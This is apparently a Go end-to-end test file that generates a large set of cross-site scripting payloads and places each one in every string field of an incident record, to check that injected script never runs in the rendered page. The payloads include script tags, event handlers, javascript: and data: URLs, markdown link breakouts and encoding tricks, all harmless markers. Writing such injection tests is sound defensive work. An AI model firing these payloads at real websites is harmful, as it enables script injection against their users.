package e2e

import (
	"reflect"
	"time"

	"github.com/chromedp/cdproto/runtime"

	"github.com/incidentkit/incident"
	"github.com/incidentkit/incident/civil"
)

// awaitPromise makes an evaluation wait for its promise.
func awaitPromise(p *runtime.EvaluateParams) *runtime.EvaluateParams { return p.WithAwaitPromise(true) }

// payloads returns texts that try to run a script, to load something, to leave
// their place, or not to be text at all. Each way in is combined with each
// active piece.
func payloads() []string {
	const act = "window.hit=1"
	acts := []string{act, "document.title='hit'", "alert(1)"}
	var list []string
	for _, a := range acts {
		list = append(list,
			"<script>"+a+"</script>", "<SCRIPT>"+a+"</SCRIPT>", "<script src=//example.invalid/x.js></script>", "<scr<script>ipt>"+a+"</script>",
			"<img src=x onerror="+a+">", "<img src=\"x\" onerror=\""+a+"\"/>", "<svg onload="+a+">", "<svg><script>"+a+"</script></svg>",
			"<svg><animate onbegin="+a+" attributeName=x dur=1s>", "<svg><foreignObject><body onload="+a+"></foreignObject></svg>",
			"<svg><a xlink:href=\"javascript:"+a+"\"><text>x</text></a></svg>", "<math><mtext><script>"+a+"</script></mtext></math>",
			"<iframe src=\"javascript:"+a+"\"></iframe>", "<iframe srcdoc=\"<script>parent."+a+"</script>\">", "<object data=\"javascript:"+a+"\">", "<embed src=\"javascript:"+a+"\">",
			"<body onload="+a+">", "<details open ontoggle="+a+">", "<video><source onerror="+a+"></video>", "<audio src=x onerror="+a+">",
			"<input autofocus onfocus="+a+">", "<marquee onstart="+a+">", "<a href=\"javascript:"+a+"\">x</a>", "<form action=\"javascript:"+a+"\"><button>x</button></form>",
			"<base href=\"//example.invalid/\">", "<meta http-equiv=refresh content=\"0;url=javascript:"+a+"\">", "<link rel=stylesheet href=//example.invalid/x.css>",
			"<style>@import '//example.invalid/x.css';</style>", "<style>body{background:url(//example.invalid/x.png)}</style>", "<table background=\"//example.invalid/x.png\">",
			"\"><script>"+a+"</script>", "'><script>"+a+"</script>", "--><script>"+a+"</script>", "</title><script>"+a+"</script>", "</style><script>"+a+"</script>", "</textarea><script>"+a+"</script>",
			"]]><script>"+a+"</script>", "</article><script>"+a+"</script>", "</desc></svg><script>"+a+"</script>", "\" onmouseover=\""+a+"\" x=\"", "' onfocus='"+a+"' autofocus x='", "` onerror=`"+a,
			"[x](javascript:"+a+")", "[x](JaVaScRiPt:"+a+")", "[x](java\tscript:"+a+")", "[x](&#106;avascript:"+a+")", "[x](<javascript:"+a+">)", "[x](vbscript:"+a+")", "[x](data:text/html,<script>"+a+"</script>)",
			"[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)", "![x](javascript:"+a+")", "![x](//example.invalid/x.png)", "![x](https://example.invalid/x.png)", "<javascript:"+a+">",
			"[x]: javascript:"+a+"\n\n[x]", "[x](https://example.com/\"onclick=\""+a+")", "[x](https://example.com 'a\" onclick=\""+a+"')", "[<script>"+a+"</script>](https://example.com)",
			"| a |\n|---|\n| <script>"+a+"</script> |", "```html\n<script>"+a+"</script>\n```", "    <script>"+a+"</script>", "`<script>"+a+"</script>`", "# <img src=x onerror="+a+">", "- <img src=x onerror="+a+">",
			"&lt;script&gt;"+a+"&lt;/script&gt;", "&#60;script&#62;"+a+"&#60;/script&#62;", "<!-- --!><script>"+a+"</script>", "<!--><script>"+a+"</script>", "<![CDATA[<script>"+a+"</script>]]>", "<?xml version=\"1.0\"?><script>"+a+"</script>",
		)
	}
	return append(list,
		"\x00<script>window.hit=1</script>", "\xff<script>window.hit=1</script>", "<\x00script>window.hit=1</script>", "\xc0\xbcscript\xc0\xbe", "\u202e<script>", "\u2066\u2067x", "\u2028<script>window.hit=1</script>",
		"a\u0000b", "\ufeff", "\x1b[31m", "&#0;", "&#xD800;", "&#x202e;", "%3Cscript%3E", "\\u003cscript\\u003e", "{{7*7}}", "${7*7}", "<%= 7 %>",
		"15:04\" onload=\"window.hit=1", "2006<script>window.hit=1</script>", "MST</time><script>window.hit=1</script>",
	)
}

// everywhere returns a copy of the incident with s in every string, including
// the words of the model and the zone of the page.
func everywhere(inc *incident.Incident, s string) *incident.Incident {
	c := inc.Clone()
	var walk func(v reflect.Value)
	walk = func(v reflect.Value) {
		switch v.Interface().(type) {
		case time.Time, civil.Date:
			return
		}
		switch v.Kind() {
		case reflect.String:
			if v.Type() != reflect.TypeFor[incident.Form]() { // forms stay
				v.SetString(s)
			}
		case reflect.Struct:
			for i := range v.NumField() {
				walk(v.Field(i))
			}
		case reflect.Pointer:
			if !v.IsNil() {
				walk(v.Elem())
			}
		case reflect.Slice:
			for i := range v.Len() {
				walk(v.Index(i))
			}
		}
	}
	walk(reflect.ValueOf(c).Elem())
	return c
}
